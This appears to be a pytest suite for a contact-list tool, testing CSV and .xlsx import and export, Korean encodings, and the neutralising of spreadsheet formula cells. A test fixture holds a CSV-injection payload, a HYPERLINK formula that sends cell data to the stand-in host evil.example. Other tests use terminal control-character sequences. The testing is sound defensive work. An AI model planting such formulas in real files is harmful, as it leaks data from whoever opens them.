"""Contacts in the files staff exchange: CSV in the encodings Korean Excel reads, .xlsx, and
cells that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from outreach.contacts import export_file, export_to_string, get_contact, import_csv
from outreach.errors import FileError, UserError
from outreach.models import Contact
from outreach.spreadsheets import neutralise, restore
from tests.conftest import write

# A hand-made file: values a spreadsheet would run, and legitimate ones that look alike.
RISKY = (
    "email,name,organisation,city,country,language,tags,phone,note,handle,code\n"
    'mayor@suwon.example.org,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'
    "수원특례시,수원,KR,ko,-webinar;news,+82 31 228 2114,-,@suwon_city,''=x\n"
    "intl@makati.example.com,Maria Santos,+63 Makati,Makati,PH,en,,-5,'=not a formula,"
    "'s-Hertogenbosch,\n"
    "office@colombo.example.org,김 '=이름',@CityNet,Colombo,LK,en,climate,'+94 11,'',=1+2,'''\n"
)
STORED = {
    "mayor@suwon.example.org": {
        "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "organisation": "수원특례시",
        "tags": ["-webinar", "news"],
        "attributes": {
            "phone": "+82 31 228 2114",
            "note": "-",
            "handle": "@suwon_city",
            "code": "'=x",
        },
    },
    "intl@makati.example.com": {
        "name": "Maria Santos",
        "organisation": "+63 Makati",
        "tags": [],
        # A leading apostrophe in a file is the escape: it is taken off, once.
        "attributes": {"phone": "-5", "note": "=not a formula", "handle": "'s-Hertogenbosch"},
    },
    "office@colombo.example.org": {
        "name": "김 '=이름'",
        "organisation": "@CityNet",
        "tags": ["climate"],
        "attributes": {"phone": "+94 11", "note": "'", "handle": "=1+2", "code": "''"},
    },
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def stored(session: Session) -> dict[str, dict[str, object]]:
    session.expire_all()
    return {
        c.email: {
            "name": c.name,
            "organisation": c.organisation,
            "tags": c.tag_names,
            "attributes": c.attributes,
        }
        for c in session.scalars(select(Contact))
    }


@pytest.mark.parametrize(
    "value",
    [
        "=1+2",
        "+82 31 228 2114",
        "-",
        "-5",
        "@handle",
        "\t=cmd",
        "\r=cmd",
        "'",
        "''",
        "'=x",
        "''=x",
        "'s-Hertogenbosch",
        "김수진",
        "",
        "plain",
        "a=b",
    ],
)
def test_neutralise_is_undone_exactly(value: str) -> None:
    cell = neutralise(value)
    assert not cell.startswith(TRIGGERS)
    assert restore(cell) == value
    assert neutralise(restore(cell)) == cell


def test_csv_export_neutralises_and_import_undoes_it(session: Session, tmp_path: Path) -> None:
    result = import_csv(session, write(tmp_path / "risky.csv", RISKY))
    assert not result.errors, result.errors
    assert stored(session) == STORED
    first = export_to_string(session)
    for row in list(csv.reader(io.StringIO(first)))[1:]:
        for cell in row:
            assert not cell.startswith(TRIGGERS), (cell, row)
    assert "'+82 31 228 2114" in first and ",'-," in first and "수원특례시" in first
    again = import_csv(session, write(tmp_path / "again.csv", first))
    assert (again.created, again.unchanged, again.errors) == (0, 3, [])
    assert stored(session) == STORED
    assert export_to_string(session) == first


@pytest.mark.parametrize(
    ("encoding", "bom"), [("utf-8", b""), ("utf-8-sig", b"\xef\xbb\xbf"), ("cp949", b"")]
)
def test_export_encodings_round_trip(
    session: Session, tmp_path: Path, encoding: str, bom: bytes
) -> None:
    import_csv(session, write(tmp_path / "risky.csv", RISKY))
    out = tmp_path / f"out-{encoding}.csv"
    assert export_file(session, out, encoding=encoding) == 3
    data = out.read_bytes()
    assert data.startswith(bom) and not data[len(bom) :].startswith(b"\xef\xbb\xbf")
    assert "수원특례시" in data.decode(encoding)
    assert data.decode(encoding) == export_to_string(session)
    result = import_csv(session, out, encoding=encoding)
    assert (result.unchanged, result.errors) == (3, [])
    assert stored(session) == STORED


def test_cp949_export_of_a_name_it_cannot_hold_is_one_line(
    session: Session, tmp_path: Path
) -> None:
    write(tmp_path / "c.csv", "email,name\nhanoi@hanoi.example.org,Nguyễn Thị Minh Khai 😀\n")
    import_csv(session, tmp_path / "c.csv")
    out = write(tmp_path / "exports" / "out.csv", "previous export\n")
    with pytest.raises(UserError) as err:
        export_file(session, out, encoding="cp949")
    message = str(err.value)
    assert "\n" not in message
    assert "hanoi@hanoi.example.org" in message and "name" in message
    assert "cp949" in message and "--encoding utf-8-sig" in message
    assert out.read_text() == "previous export\n"  # left as it was
    assert [p.name for p in out.parent.iterdir()] == ["out.csv"]


def test_xlsx_export_has_no_formulas_and_round_trips(session: Session, tmp_path: Path) -> None:
    import_csv(session, write(tmp_path / "risky.csv", RISKY))
    first = tmp_path / "contacts.xlsx"
    assert export_file(session, first) == 3
    with zipfile.ZipFile(first) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in archive.read(n) for n in sheets)
    book = openpyxl.load_workbook(first)
    sheet = book.worksheets[0]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0][:3] == ["email", "name", "organisation"]
    header = rows[0]
    by_email = {r[0]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    suwon = by_email["mayor@suwon.example.org"]
    assert suwon["name"] == STORED["mayor@suwon.example.org"]["name"]  # as text, not a formula
    assert suwon["phone"] == "+82 31 228 2114" and suwon["note"] == "-"
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    result = import_csv(session, first)
    assert (result.created, result.unchanged, result.errors) == (0, 3, [])
    assert stored(session) == STORED
    second = tmp_path / "again.xlsx"
    export_file(session, second)
    again = [
        [c.value for c in row] for row in openpyxl.load_workbook(second).worksheets[0].iter_rows()
    ]
    assert again == rows


def test_xlsx_from_a_member_city_imports(session: Session, tmp_path: Path) -> None:
    """What a city sends: Korean headers, numbers and dates typed as such, an empty row,
    formatting beyond the last column, and a second sheet that is not contacts."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "명단"
    sheet.append(["이메일", "이름", "기관명", "국가", "언어", "동의", "동의일", "전화", "우편번호"])
    sheet.append(
        [
            "Mayor@Suwon.example.org",
            "김수진",
            "수원특례시",
            "KR",
            "ko",
            "opt-in",
            datetime(2026, 3, 31),
            821012345678,
            16489.0,
        ]
    )
    sheet.append([])
    sheet.append(["intl@makati.example.com", "Maria Santos", "Makati", "PH", "en", None, None])
    sheet["K2"].number_format = "0.00"  # formatted but empty: not a column
    sheet["K6"] = None
    book.create_sheet("notes").append(["not", "contacts"])
    path = tmp_path / "회원명단.xlsx"
    book.save(path)
    result = import_csv(session, path)
    assert (result.created, result.errors) == (2, []), result.errors
    suwon = get_contact(session, "mayor@suwon.example.org")
    assert (suwon.name, suwon.organisation, suwon.country, suwon.language) == (
        "김수진",
        "수원특례시",
        "KR",
        "ko",
    )
    assert suwon.consent == "opt-in" and suwon.consent_at is not None
    assert suwon.consent_at.date().isoformat() == "2026-03-31"
    assert suwon.attributes == {"전화": "821012345678", "우편번호": "16489"}


def test_xlsx_errors_give_the_row(session: Session, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["E-mail", "Country"])
    sheet.append(["good@example.org", "KR"])
    sheet.append(["bad@example.org", "Atlantis"])
    book.save(tmp_path / "c.xlsx")
    result = import_csv(session, tmp_path / "c.xlsx")
    assert [(e.line, e.reason.split(":")[0]) for e in result.errors] == [
        (3, "unknown country 'Atlantis'")
    ]


def test_a_formula_nobody_computed_stops_the_import_at_its_cell(
    session: Session, tmp_path: Path
) -> None:
    """A script that writes formulas (openpyxl, pandas) saves no values for them: read as
    values they are empty, which would import a contact without its name, or report an
    address as missing that the sheet shows."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["email", "name", "language"])
    sheet.append(["good@example.org", "Good", "en"])
    sheet.append(["lee@busan.example.org", '=HYPERLINK("https://busan.example.org","Lee")', "ko"])
    book.save(tmp_path / "scripted.xlsx")
    with pytest.raises(FileError) as err:
        import_csv(session, tmp_path / "scripted.xlsx")
    message = str(err.value)
    assert "scripted.xlsx:3:" in message and "B3" in message and "no saved value" in message
    assert "save it again" in message and "\n" not in message
    assert session.scalar(select(func.count()).select_from(Contact)) == 0


def _rewritten(path: Path, sheet: dict[str, str], workbook: dict[str, str] | None = None) -> Path:
    """The .xlsx at `path` with text replaced in its first sheet and workbook part, as
    another program would have written them (openpyxl writes formulas without values)."""
    with zipfile.ZipFile(path) as src:
        parts = {name: src.read(name) for name in src.namelist()}
    for part, edits in (("xl/worksheets/sheet1.xml", sheet), ("xl/workbook.xml", workbook or {})):
        text = parts[part].decode()
        for old, new in edits.items():
            assert old in text, text
            text = text.replace(old, new)
        parts[part] = text.encode()
    with zipfile.ZipFile(path, "w") as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return path


AS_EXCEL_SAVES = {'<calcPr calcId="124519" fullCalcOnLoad="1"/>': '<calcPr calcId="191029"/>'}


def _one_formula(tmp_path: Path, name: str) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["email", "name"])
    sheet.append(["kim@suwon.example.org", '="Kim "&"Min-jun"'])
    book.save(tmp_path / name)
    return tmp_path / name


FORMULA = '<c r="B2"><f>"Kim "&amp;"Min-jun"</f><v></v></c>'


def test_a_formula_with_its_saved_value_imports_as_that_value(
    session: Session, tmp_path: Path
) -> None:
    """As Excel and LibreOffice save it: the formula and the value it showed."""
    computed = '<c r="B2" t="str"><f>"Kim "&amp;"Min-jun"</f><v>Kim Min-jun</v></c>'
    path = _rewritten(_one_formula(tmp_path, "saved.xlsx"), {FORMULA: computed}, AS_EXCEL_SAVES)
    result = import_csv(session, path)
    assert result.errors == []
    contact = get_contact(session, "kim@suwon.example.org")
    assert contact is not None and contact.name == "Kim Min-jun"


@pytest.mark.parametrize(
    ("sheet", "workbook"),
    [
        # XlsxWriter (pandas' engine) saves 0 for every formula and asks for a recalculation.
        ({FORMULA: '<c r="B2"><f>"Kim "&amp;"Min-jun"</f><v>0</v></c>'}, None),
        # An array formula, with a tab after the element name and a namespace prefix.
        (
            {
                "<worksheet ": '<worksheet xmlns:my-x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ',
                FORMULA: '<c r="B2"><my-x:f\tt="array" ref="B2">"Kim "&amp;"Min-jun"</my-x:f><v></v></c>',
            },
            AS_EXCEL_SAVES,
        ),
    ],
    ids=["xlsxwriter-zero", "array-formula"],
)
def test_formulas_whose_values_no_spreadsheet_computed_are_refused(
    session: Session, tmp_path: Path, sheet: dict[str, str], workbook: dict[str, str] | None
) -> None:
    path = _rewritten(_one_formula(tmp_path, "scripted.xlsx"), sheet, workbook)
    with pytest.raises(FileError, match=r"scripted\.xlsx:2: cell B2 is a formula"):
        import_csv(session, path)
    assert session.scalar(select(func.count()).select_from(Contact)) == 0


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("fake.xlsx", b"email\na@example.org\n", "not an Excel .xlsx file"),
        ("broken.xlsx", b"PK\x03\x04garbage", "not an Excel .xlsx file"),
        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "save it as .xlsx"),
    ],
)
def test_unreadable_spreadsheets_are_one_line(
    session: Session, tmp_path: Path, name: str, content: bytes, message: str
) -> None:
    with pytest.raises(FileError) as err:
        import_csv(session, write(tmp_path / name, content))
    assert message in str(err.value) and name in str(err.value)
    assert "\n" not in str(err.value)


def test_a_spreadsheet_named_csv_is_recognised(session: Session, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.save(tmp_path / "real.xlsx")
    write(tmp_path / "members.csv", (tmp_path / "real.xlsx").read_bytes())
    with pytest.raises(FileError, match=r"members\.csv: this is an Excel \.xlsx file"):
        import_csv(session, tmp_path / "members.csv")


def test_empty_xlsx(session: Session, tmp_path: Path) -> None:
    openpyxl.Workbook().save(tmp_path / "empty.xlsx")
    with pytest.raises(FileError, match="the file is empty"):
        import_csv(session, tmp_path / "empty.xlsx")


def test_cli_export_encodings_and_xlsx(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert run_cli("init").exit_code == 0
    write(tmp_path / "risky.csv", RISKY)
    assert run_cli("contacts", "import", "risky.csv").exit_code == 0
    out = run_cli("contacts", "export", "--encoding", "cp949")
    assert out.exit_code == 0
    assert "수원특례시" in out.stdout_bytes.decode("cp949")
    sig = run_cli("contacts", "export", "--encoding", "utf-8-sig", "-o", "excel.csv")
    assert sig.exit_code == 0 and "3 contacts written to excel.csv" in sig.output
    assert (tmp_path / "excel.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert run_cli("contacts", "export", "-o", "contacts.xlsx").exit_code == 0
    back = run_cli("contacts", "import", "contacts.xlsx")
    assert back.exit_code == 0 and "0 new, 0 updated, 3 unchanged, 0 invalid" in back.output
    bad = run_cli("contacts", "export", "--encoding", "latin-1")
    assert bad.exit_code != 0 and "Traceback" not in bad.output
    write(tmp_path / "viet.csv", "email,name\nhanoi@hanoi.example.org,Nguyễn Thị 😀\n")
    assert run_cli("contacts", "import", "viet.csv").exit_code == 0
    refused = run_cli("contacts", "export", "--encoding", "cp949", "-o", "k.csv")
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    assert len([x for x in refused.output.splitlines() if x.strip()]) == 1
    assert not (tmp_path / "k.csv").exists()
    nowhere = run_cli("contacts", "export", "-o", "no/such/dir/x.xlsx")
    assert nowhere.exit_code == 1 and "cannot write no/such/dir/x.xlsx" in nowhere.output
    assert "Traceback" not in nowhere.output


@pytest.mark.parametrize(
    ("encoding", "data", "char"),
    [
        # UTF-7 writes ESC as "+ABs-": the file's bytes hold no control character at all.
        ("utf-7", "email,name\nkim@example.org,Kim+ABs-[2J\n".encode("ascii"), "001B"),
        # In Latin-1 the byte 0x9B is U+009B, the terminal's one-byte CSI.
        ("latin-1", b"email,name\nkim@example.org,Kim\x9b2J\n", "009B"),
        ("utf-16", "email,name\nkim@example.org,Kim\x07\n".encode("utf-16"), "0007"),
    ],
    ids=["utf-7", "latin-1", "utf-16"],
)
def test_control_characters_are_found_in_any_encoding(
    session: Session, tmp_path: Path, encoding: str, data: bytes, char: str
) -> None:
    """The fast scan of a file's bytes knows UTF-8 and CP949; in any other encoding the
    decoded text is checked, row by row, as for .xlsx."""
    path = write(tmp_path / "c.csv", data)
    result = import_csv(session, path, encoding=encoding)
    assert [(e.line, e.reason) for e in result.errors] == [
        (2, f"name contains a control character (U+{char}); remove it")
    ]
    assert session.scalar(select(func.count()).select_from(Contact)) == 0


def test_escaped_cells_are_restored_in_any_encoding(session: Session, tmp_path: Path) -> None:
    path = write(tmp_path / "c.csv", "email,name\nkim@example.org,'=Kim\n".encode("utf-16"))
    import_csv(session, path, encoding="utf-16")
    session.commit()
    assert session.scalar(select(Contact.name)) == "=Kim"


def test_a_file_that_is_no_contact_list_is_one_clear_line(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "segments.yaml").write_text("korean-local-governments:\n  where: {}\n", "utf-8")
    assert run_cli("init").exit_code == 0
    result = run_cli("contacts", "import", "segments.yaml")
    assert result.exit_code == 1
    assert result.output.strip().endswith(
        "segments.yaml: this is not a contacts file: give a .csv or .xlsx file"
    )
    assert "--map" not in result.output
